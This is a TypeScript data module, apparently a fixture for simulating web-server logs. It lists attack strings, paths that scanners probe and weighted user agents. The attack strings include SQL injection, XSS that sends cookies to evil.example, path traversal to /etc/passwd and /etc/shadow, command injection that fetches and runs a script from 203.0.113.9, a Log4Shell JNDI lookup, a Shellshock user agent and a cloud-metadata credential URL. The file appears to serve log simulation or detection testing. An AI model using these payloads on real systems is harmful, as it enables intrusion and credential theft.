/** Values that attackers send, as seen in the logs of any public web server; apart from http_params.csv. */
export const ATTACKS: readonly string[] = [
  "1' OR '1'='1' -- ",
  '1 UNION SELECT username,password FROM users--',
  "1;WAITFOR DELAY '0:0:10'--",
  '1 AND (SELECT 5230 FROM (SELECT(SLEEP(5)))a)',
  "admin'/*",
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=fetch("//evil.example/"+document.cookie)>',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//....//etc/shadow',
  'php://filter/convert.base64-encode/resource=index.php',
  ';cat /etc/passwd',
  '$(curl http://203.0.113.9/x.sh|sh)',
  '|id',
  '`wget http://203.0.113.9/m -O /tmp/m`',
  '${jndi:ldap://203.0.113.9:1389/a}',
  '{{7*7}}{{config.items()}}',
  '%27%20OR%201%3D1--',
  'file:///etc/passwd',
  "'; DROP TABLE orders; --",
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
];

/** Paths that scanners ask every server for. */
export const SCANNED: readonly string[] = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/wp-content/plugins/revslider/temp/update_extract/up.php',
  '/phpmyadmin/index.php',
  '/cgi-bin/luci',
  '/actuator/env',
  '/server-status',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/boaform/admin/formLogin',
  '/solr/admin/info/system',
  '/backup.zip',
  '/config.json.bak',
  '/HNAP1/',
  '/owa/auth/logon.aspx',
  '/console/',
  '/.aws/credentials',
  '/xmlrpc.php',
];

export const BROWSERS = [
  {
    weight: 30,
    name: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36',
  },
  {
    weight: 22,
    name: 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1',
  },
  {
    weight: 16,
    name: 'Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Mobile Safari/537.36',
  },
  {
    weight: 10,
    name: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15',
  },
  { weight: 7, name: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:135.0) Gecko/20100101 Firefox/135.0' },
  { weight: 5, name: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' },
  {
    weight: 4,
    name: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36 Edg/132.0.0.0',
  },
  {
    weight: 2,
    name: 'Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36',
  },
  { weight: 2, name: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
  { weight: 1, name: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)' },
] as const;

/** Programs that no customer uses. */
export const STRANGE_AGENTS: readonly string[] = [
  'sqlmap/1.8.2#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  '() { :; }; /bin/bash -c "curl http://203.0.113.9/a"',
  'Mozilla/5.0 zgrab/0.x',
  'Fuzz Faster U Fool v2.1.0-dev',
  'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; Hydra)',
  'libwww-perl/6.67',
  'python-requests/2.6.0',
  'Go-http-client/1.1 nuclei',
];
